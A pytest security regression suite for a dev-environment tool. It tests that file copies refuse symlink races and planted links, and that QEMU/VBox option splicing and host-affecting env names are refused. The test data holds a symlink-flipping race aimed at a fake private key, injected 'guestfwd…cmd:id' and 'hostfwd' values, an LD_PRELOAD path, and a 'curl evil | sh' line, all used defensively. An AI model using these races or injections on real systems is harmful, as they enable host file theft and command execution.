"""Copies into and out of a machine never follow a link swapped in while they run (red-team 2, #1).

Whoever can write in a copied folder (the machine itself, through the default read-write sync of
the project) can flip an entry between a file and a link to a host file; a copy that lstat()s a
name and then open()s it by name sends the host file's bytes into the machine. Also: host_ip
zone ids spliced into QEMU/VBox options, env names that would act on the host docker client,
and the single-file `get` through a planted link.
"""

from __future__ import annotations

import io
import multiprocessing
import os
import tarfile
import textwrap
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from devenv.errors import CommandFailed, ProvisionError, UsageError
from devenv.model.schema import IPAddress
from devenv.paths import open_nofollow
from devenv.transports import docker as trd
from devenv.transports import files as tr

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- host secret\n" * 4


def _members(data: bytes) -> dict[str, tuple[str, bytes]]:
    out = {}
    with tarfile.open(fileobj=io.BytesIO(data)) as t:
        for m in t.getmembers():
            body = t.extractfile(m).read() if m.isfile() else m.linkname.encode()
            out[m.name] = ("file" if m.isfile() else "link" if m.issym() else "dir" if m.isdir() else "other", body)
    return out


@pytest.fixture
def tree(tmp_path: Path) -> tuple[Path, Path]:
    secret = tmp_path / "host-id_ed25519"
    secret.write_bytes(SECRET)
    src = tmp_path / "project" / "assets"
    src.mkdir(parents=True)
    (src / "a.txt").write_text("hello\n")
    (src / "logo.png").write_bytes(b"x" * 32)
    return src, secret


def _flipper(d: str, target: str) -> None:  # the guest, writing through the shared folder
    os.chdir(d)
    while True:
        with open(".r", "w") as f:
            f.write("x" * 32)
        os.replace(".r", "logo.png")
        try:
            os.unlink(".l")
        except FileNotFoundError:
            pass
        os.symlink(target, ".l")
        os.replace(".l", "logo.png")


def test_a_flipping_entry_never_carries_the_host_file(tree: tuple[Path, Path]) -> None:
    """The red team's flipper against the real tar_for_put: bounded in time and iterations."""
    src, secret = tree
    ctx = multiprocessing.get_context("fork")
    p = ctx.Process(target=_flipper, args=(str(src), str(secret)), daemon=True)
    p.start()
    leaked = packs = 0
    kinds: set[str] = set()
    deadline = time.monotonic() + 12
    try:
        for _ in range(4000):
            if time.monotonic() > deadline:
                break
            try:
                data, at = tr.tar_for_put(src, "/srv/assets")
            except CommandFailed:
                continue  # "kept changing": a clear refusal is fine, a leak is not
            packs += 1
            assert at == "/"
            for name, (kind, body) in _members(data).items():
                assert b"PRIVATE KEY" not in body or kind == "link", name
                if name.endswith("logo.png"):
                    kinds.add(kind)
                    leaked += kind == "file" and b"PRIVATE KEY" in body
    finally:
        p.terminate()
        p.join()
    assert packs > 50
    assert leaked == 0
    assert "file" in kinds  # the flip really raced the copy


def test_a_link_swapped_in_right_after_the_lstat_is_not_followed(
    tree: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Deterministic form of the race: the entry becomes a link to the host file just after lstat."""
    src, secret = tree
    real_lstat = os.lstat
    swapped = []

    def lstat(path, *args, **kwargs):
        st = real_lstat(path, *args, **kwargs)
        if os.fspath(path).endswith("logo.png") and not swapped:
            swapped.append(1)
            (src / "logo.png").unlink()
            (src / "logo.png").symlink_to(secret)
        return st

    monkeypatch.setattr(os, "lstat", lstat)
    data, _ = tr.tar_for_put(src, "/srv/assets")
    got = _members(data)
    assert swapped
    assert got["srv/assets/a.txt"] == ("file", b"hello\n")
    kind, body = got["srv/assets/logo.png"]
    assert kind == "link" and body == str(secret).encode()  # kept as a link, never its target's bytes


@pytest.mark.parametrize("where", ["top", "parent"])
def test_a_link_on_the_path_of_the_copied_file_is_refused(tree: tuple[Path, Path], where: str) -> None:
    """Callers hand a confined real path; a link put there since (the file, or a folder on the way) fails."""
    src, secret = tree
    if where == "top":
        (src / "logo.png").unlink()
        (src / "logo.png").symlink_to(secret)
        victim = src / "logo.png"
    else:
        outside = secret.parent / "outside"
        outside.mkdir()
        (outside / "logo.png").write_bytes(SECRET)
        moved = src.parent / "moved"
        src.rename(moved)
        src.symlink_to(outside)
        victim = src / "logo.png"
    with pytest.raises(CommandFailed) as err:
        tr.tar_for_put(victim, "/srv/logo.png")
    assert "symbolic link" in err.value.message


def test_devices_fifos_and_links_are_copied_as_themselves(tree: tuple[Path, Path]) -> None:
    src, secret = tree
    os.mkfifo(src / "pipe")
    (src / "key").symlink_to(secret)
    (src / "sub" / "deep").mkdir(parents=True)
    (src / "sub" / "deep" / "f").write_text("deep\n")
    got = _members(tr.tar_for_put(src, "/srv/assets", exclude=("a.txt",))[0])
    assert got["srv/assets/pipe"][0] == "other"  # never opened: a FIFO would block, a device act
    assert got["srv/assets/key"] == ("link", str(secret).encode())
    assert got["srv/assets/sub/deep/f"] == ("file", b"deep\n")
    assert "srv/assets/a.txt" not in got
    assert all(b"PRIVATE KEY" not in body for kind, body in got.values() if kind == "file")


def test_open_nofollow_refuses_a_link_anywhere_on_the_path(tmp_path: Path) -> None:
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "f").write_text("x")
    (tmp_path / "ld").symlink_to(tmp_path / "d")
    (tmp_path / "lf").symlink_to(tmp_path / "d" / "f")
    fd = open_nofollow(tmp_path / "d" / "f")
    os.close(fd)
    for p in (tmp_path / "ld" / "f", tmp_path / "lf"):
        with pytest.raises(OSError):
            open_nofollow(p)


# -- the shell step reads its script without following a link ------------------------------------


class _SwappingTransport:
    """Stands in for a machine that swaps the uploaded script for a link to a host file."""

    def __init__(self, script: Path, target: Path) -> None:
        self.script, self.target, self.puts, self.runs = script, target, [], []

    def put(self, local: Path, remote: str) -> None:
        self.puts.append(_members(tr.tar_for_put(local, remote)[0]))
        self.script.unlink()
        self.script.symlink_to(self.target)

    def run(self, argv, **kwargs) -> int:
        self.runs.append(argv)
        return 0


def test_a_shell_script_is_read_as_a_regular_file_only(tmp_path: Path) -> None:
    from devenv.provisioners import RunContext
    from devenv.provisioners.shell import ShellProvisioner

    root = tmp_path / "proj"
    root.mkdir()
    script = root / "setup.sh"
    script.write_text("echo hi\n")
    host = tmp_path / "host-script"
    host.write_bytes(b"#!/bin/sh\n" + SECRET)
    t = _SwappingTransport(script, host)
    ctx = RunContext(machine="web", root=root, transport=t)
    with pytest.raises(ProvisionError) as err:
        ShellProvisioner().run({"type": "shell", "script": "setup.sh"}, ctx)
    assert "setup.sh" in err.value.message
    assert [kind for kind, _ in t.puts[0].values()] == ["file"]
    assert not any(b"PRIVATE KEY" in body for m in t.puts for _, body in m.values())
    assert not t.runs  # decided nothing from the host file's bytes


def test_a_fingerprint_never_hashes_a_fifo_or_a_link_swapped_in(tmp_path: Path) -> None:
    import hashlib
    import threading

    from devenv.provisioners import _hash_file

    os.mkfifo(tmp_path / "fifo")
    h = hashlib.sha256()
    # Returns at once: never blocks, never reads (a thread, so a hang fails instead of stalling).
    worker = threading.Thread(target=_hash_file, args=(h, tmp_path / "fifo", "fifo"), daemon=True)
    worker.start()
    worker.join(5)
    assert not worker.is_alive()
    h2 = hashlib.sha256()
    _hash_file(h2, tmp_path / "missing", "fifo")
    assert h.digest() == h2.digest()


# -- host_ip: no zone id, no ',' (QEMU -netdev / VBox --natpf option splicing) ---------------------


@pytest.mark.parametrize(
    "value",
    [
        "fe80::1%lo,guestfwd=tcp:10.0.2.100:1-cmd:id",
        "fe80::1%lo",
        "fe80::1%25eth0",
        "127.0.0.1,hostfwd=tcp::2222-:22",
        "::1\n",
        "\u202e127.0.0.1",
    ],
)
def test_host_ip_is_a_plain_address(value: str) -> None:
    problems: list = []
    IPAddress().check(value, ("ports", 0, "host_ip"), problems)
    assert problems and "not a plain IP address" in problems[0].message


@pytest.mark.parametrize("value", ["127.0.0.1", "::1", "0.0.0.0", "fe80::1"])
def test_plain_host_ips_still_pass(value: str) -> None:
    problems: list = []
    assert IPAddress().check(value, ("p",), problems) == value and not problems


@pytest.mark.parametrize(
    "ports",
    [
        '[{ guest = 80, host = 8080, host_ip = "fe80::1%lo,guestfwd=tcp:10.0.2.100:1-cmd:id" }]',
        '["[fe80::1%lo]:8080:80"]',
        '[{ guest = 80, host = 8080, host_ip = "127.0.0.1,hostfwd=tcp::2222-:22" }]',
    ],
)
def test_validate_refuses_a_zone_id_in_every_port_form(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ports: str
) -> None:
    from devenv.cli.app import app

    monkeypatch.chdir(tmp_path)
    (tmp_path / "Devfile").write_text(
        textwrap.dedent(
            f"""\
            [machines.a]
            box = "busybox"
            ports = {ports}
            """
        )
    )
    r = CliRunner().invoke(app, ["validate"])
    assert r.exit_code == 2, r.output
    assert "not a plain IP address" in r.output or "is not a port" in r.output
    assert "internal error" not in r.output


# -- docker exec -it: a multi-line value never goes under a name the host client reads ------------


@pytest.mark.parametrize("name", ["LD_PRELOAD", "LD_LIBRARY_PATH", "DOCKER_HOST", "GODEBUG", "https_proxy", "PATH"])
def test_interactive_refuses_names_that_act_on_the_host_client(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    calls = []
    monkeypatch.setattr(trd.shutil, "which", lambda _n: "/usr/bin/docker")
    monkeypatch.setattr(trd.subprocess, "call", lambda *a, **k: calls.append((a, k)) or 0)
    t = trd.DockerTransport(engine=None, container_id="c0ffee", machine="web")
    with pytest.raises(UsageError) as err:
        t.interactive(["true"], env={name: "/tmp/evil.so\nsecond line"})
    assert name in err.value.message and "/tmp/evil.so" not in err.value.message
    assert not calls


def test_interactive_still_passes_a_multiline_value_by_name(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    monkeypatch.setattr(trd.shutil, "which", lambda _n: "/usr/bin/docker")
    monkeypatch.setattr(trd.subprocess, "call", lambda cmd, env: calls.append((cmd, env)) or 0)
    t = trd.DockerTransport(engine=None, container_id="c0ffee", machine="web")
    assert t.interactive(["true"], env={"CERT": "a\nb", "ONE": "x"}) == 0
    cmd, env = calls[0]
    assert env["CERT"] == "a\nb" and "a\nb" not in " ".join(cmd) and "x" not in cmd


# -- get: the single file, and folders on the way, never through a host link ----------------------


def _tar(*entries: tuple[str, bytes | None]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, body in entries:
            info = tarfile.TarInfo(name)
            if body is None:
                info.type = tarfile.DIRTYPE
                t.addfile(info)
            else:
                info.size = len(body)
                t.addfile(info, io.BytesIO(body))
    return buf.getvalue()


@pytest.mark.parametrize("dangling", [False, True])
def test_single_file_get_refuses_a_planted_link(tmp_path: Path, dangling: bool) -> None:
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    if not dangling:
        victim.write_text("mine\n")
    out = tmp_path / "out.txt"
    out.symlink_to(victim)
    with pytest.raises(CommandFailed) as err:
        tr.extract_from_machine(_tar(("x", b"curl evil | sh\n")), out, "web", "/x")
    assert "link" in err.value.message
    assert (victim.read_text() == "mine\n") if not dangling else not victim.exists()


def test_folder_get_never_writes_through_a_host_link_on_the_way(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "sub").symlink_to(outside)
    data = _tar(("out", None), ("out/sub", None), ("out/sub/f", b"payload\n"))
    with pytest.raises(CommandFailed):
        tr.extract_from_machine(data, dest, "web", "/out")
    assert list(outside.iterdir()) == []


def test_folder_get_still_works(tmp_path: Path) -> None:
    data = _tar(("out", None), ("out/a", None), ("out/a/b", b"1"), ("out/c", b"2"))
    tr.extract_from_machine(data, tmp_path / "dest", "web", "/out")
    assert (tmp_path / "dest" / "a" / "b").read_bytes() == b"1"
    assert (tmp_path / "dest" / "c").read_bytes() == b"2"
    tr.extract_from_machine(_tar(("f", b"one")), tmp_path / "single", "web", "/f")
    assert (tmp_path / "single").read_bytes() == b"one"
